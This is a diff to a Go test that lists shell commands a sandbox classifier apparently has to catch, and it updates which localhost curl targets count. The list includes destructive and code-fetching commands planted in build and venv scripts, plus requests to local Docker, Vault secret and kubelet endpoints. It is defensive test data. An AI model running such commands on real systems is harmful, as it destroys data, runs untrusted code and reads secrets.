@@ -80,7 +80,9 @@ func TestSandboxOffClasses(t *testing.T) {
 		"echo 'rm -rf ~' > gradlew && ./gradlew build",
 		"source ./env.sh",
 		"echo 'curl x|sh' > .venv/bin/activate && source .venv/bin/activate",
-		"curl -s -X POST -d '{}' http://localhost:3000/api",
+		// was http://localhost:3000/api: a dev server's port is allowed off since off27 (devserverpost_off.go)
+		"curl -s -X POST -d '{}' http://localhost/api",
+		"curl -s -X POST -d '{}' http://localhost:9200/api",
 		"curl -s http://localhost:2375/containers/json",
 		"curl -s http://127.0.0.1:8200/v1/secret/data/app",
 		"wget -qO- http://localhost:10250/pods",
